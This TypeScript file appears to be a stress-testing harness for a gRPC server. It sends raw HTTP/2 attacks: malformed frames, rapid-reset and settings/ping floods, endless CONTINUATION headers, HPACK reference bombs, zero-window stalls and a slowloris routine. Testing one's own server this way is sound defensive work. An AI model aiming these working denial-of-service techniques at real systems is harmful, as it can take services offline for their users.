import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { RPCS } from '../../fixtures/rpcs.ts';
import type { Random } from '../scenario.ts';
import {
  FLAG,
  frame,
  grpcMessage,
  headersFrame,
  hpack,
  PREFACE,
  references,
  settings,
  TYPE,
  uint32,
} from './frames.ts';
import { type Attack, bytesOf, grpcHeaders, repeat, type Tally, type Target } from './target.ts';

// Attacks that break HTTP/2 itself, or misuse it.

const LIST = RPCS.find(({ name }) => name === 'ConversationService/ListThreads')!;
const OPEN = Buffer.concat([PREFACE, settings()]);
// Long enough for the server to read it all and close, if that is what it does.
const LINGER_MS = 50;

async function opened({ host, port }: Target): Promise<Socket> {
  const socket = connect(port, host);
  socket.on('error', () => {}); // the server may well cut it
  await Promise.race([once(socket, 'connect'), once(socket, 'close')]);
  return socket;
}

/** Sends these over a connection of their own. The server may close it or not. */
async function sendRaw(target: Target, parts: Buffer[]): Promise<Tally> {
  const socket = await opened(target);
  socket.resume();
  const closed = once(socket, 'close');
  const written = new Promise((resolve) => socket.write(Buffer.concat(parts), resolve));
  await Promise.race([written, closed]);
  await Promise.race([closed, sleep(LINGER_MS)]);
  const answer = socket.closed ? 'connection closed by the server' : 'connection left';
  socket.destroy();
  return { [answer]: parts.length };
}

/** An attack of one connection, whose parts count as one input each. */
const over =
  (make: (random: Random, target: Target) => Buffer[]): Attack =>
  (target, random) =>
    sendRaw(target, make(random, target));

const call = (target: Target): Buffer => hpack(grpcHeaders(target, LIST.path));
const reset = (stream: number): Buffer => frame({ type: TYPE.reset, stream, payload: uint32(8) });
const message = (stream: number, flags = FLAG.endStream): Buffer =>
  frame({ type: TYPE.data, flags, stream, payload: grpcMessage(Buffer.alloc(0)) });
const streamIds = (count: number): number[] => repeat(count, (index) => 2 * index + 1);

/** Frames that are wrong in themselves, or where they stand. */
const WRONG_FRAMES: ((random: Random, target: Target) => Buffer)[] = [
  (random) =>
    frame({
      type: random.int(256),
      flags: random.int(256),
      stream: random.int(10),
      payload: bytesOf(random, random.int(60)),
    }),
  () => frame({ type: TYPE.settings, payload: Buffer.alloc(5) }),
  () => settings({ 2: 7, 4: 0xffff_ffff, 5: 1 }),
  () => frame({ type: TYPE.settings, flags: FLAG.ack, payload: Buffer.alloc(6) }),
  () => frame({ type: TYPE.ping, payload: Buffer.alloc(7) }),
  () => frame({ type: TYPE.window, payload: uint32(0) }),
  () => frame({ type: TYPE.window, payload: uint32(0x7fff_ffff) }),
  () => frame({ type: TYPE.window, stream: 99, payload: uint32(1) }),
  () => frame({ type: TYPE.data, stream: 0, payload: Buffer.alloc(9) }),
  () => frame({ type: TYPE.data, stream: 2, payload: Buffer.alloc(9) }),
  () => frame({ type: TYPE.data, stream: 7, flags: FLAG.padded, payload: Buffer.from([200]) }),
  () => frame({ type: TYPE.data, stream: 1, length: 0xff_ffff }),
  () => frame({ type: TYPE.push, stream: 1, payload: uint32(2) }),
  () => frame({ type: TYPE.continuation, stream: 1 }),
  () => frame({ type: TYPE.goaway, payload: Buffer.alloc(3) }),
  () => frame({ type: TYPE.reset, stream: 0, payload: uint32(1) }),
  () => frame({ type: TYPE.priority, stream: 3, payload: Buffer.concat([uint32(3), Buffer.alloc(1)]) }),
  (random) => headersFrame(1, bytesOf(random, 40)),
  (_random, target) => headersFrame(2, call(target)),
  (_random, target) => headersFrame(1, call(target), FLAG.endHeaders | FLAG.priority),
  () => headersFrame(1, Buffer.concat([Buffer.from([0x80]), references(3)])),
  () => headersFrame(1, hpack({ 'Upper-Case': 'x', ':late': 'y' })),
  () => headersFrame(1, hpack({ connection: 'close', ':path': '' })),
];

const NO_HTTP2: ((random: Random) => Buffer)[] = [
  (random) => bytesOf(random, 1 + random.int(500)),
  () => Buffer.from('GET / HTTP/1.1\r\nhost: x\r\n\r\n'),
  () => Buffer.from('\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03', 'latin1'),
  (random) => PREFACE.subarray(0, random.int(PREFACE.length)),
  (random) => Buffer.concat([PREFACE, bytesOf(random, random.int(200))]),
  () => Buffer.alloc(100_000),
];

export const CONNECTIONS: Record<string, Attack> = {
  'no HTTP/2': over((random) => [random.pick(NO_HTTP2)(random)]),
  'wrong frames': over((random, target) => [
    OPEN,
    ...repeat(1 + random.int(3), () => random.pick(WRONG_FRAMES)(random, target)),
  ]),
  'mutated connections': over((random, target) => {
    const good = Buffer.concat([OPEN, headersFrame(1, call(target)), message(1)]);
    for (let flips = 1 + random.int(5); flips > 0; flips--) good[random.int(good.length)] = random.int(256);
    return [good];
  }),
  'cut connections': over((random, target) => {
    const good = Buffer.concat([OPEN, headersFrame(1, call(target)), message(1)]);
    return [good.subarray(0, random.int(good.length))];
  }),
  'rapid resets': over((_random, target) => [
    OPEN,
    ...streamIds(500).map((id) => Buffer.concat([headersFrame(id, call(target)), reset(id)])),
  ]),
  'rapid resets of whole calls': over((_random, target) => [
    OPEN,
    ...streamIds(200).map((id) => Buffer.concat([headersFrame(id, call(target)), message(id), reset(id)])),
  ]),
  'floods of settings and pings': over((random) => {
    const flood = random.chance(0.5) ? settings({ 3: 1 }) : frame({ type: TYPE.ping, payload: Buffer.alloc(8) });
    return [OPEN, ...repeat(500, () => flood)];
  }),
  'floods of empty data': over((_random, target) => [
    OPEN,
    headersFrame(1, call(target)),
    ...repeat(300, () => frame({ type: TYPE.data, stream: 1 })),
  ]),
  'headers without end': over((random, target) => [
    OPEN,
    headersFrame(1, call(target), 0),
    ...repeat(100, () =>
      frame({ type: TYPE.continuation, stream: 1, payload: hpack({ [`x-${random.int(1e9)}`]: 'x'.repeat(1000) }) }),
    ),
  ]),
  'bombs of header references': over((_random, target) => [
    OPEN,
    headersFrame(1, Buffer.concat([call(target), hpack({ bomb: 'x'.repeat(3900) }, true), references(12_000)])),
  ]),
  'answers that nobody reads': over((_random, target) => [
    PREFACE,
    settings({ 4: 0 }), // no window: each answer stays with the server
    ...streamIds(100).map((id) => Buffer.concat([headersFrame(id, call(target)), message(id)])),
  ]),
};

/** Connections that send a call one byte a second, from somewhere in its middle on, and so never finish it. */
export async function slowLoris(target: Target, count: number): Promise<{ end(): void }> {
  const whole = Buffer.concat([OPEN, headersFrame(1, call(target)), message(1)]);
  const sockets = await Promise.all(repeat(count, () => opened(target)));
  // Each is so far from the end that it does not get there.
  const sent = sockets.map((_, index) => (index * 7) % (whole.length - 600 > 0 ? whole.length - 600 : 20));
  sockets.forEach((socket, index) => {
    socket.resume();
    socket.write(whole.subarray(0, sent[index]));
  });
  const drip = setInterval(() => {
    sockets.forEach((socket, index) => {
      if (!socket.destroyed) socket.write(whole.subarray(sent[index]!, ++sent[index]!));
    });
  }, 1000);
  return {
    end() {
      clearInterval(drip);
      for (const socket of sockets) socket.destroy();
    },
  };
}
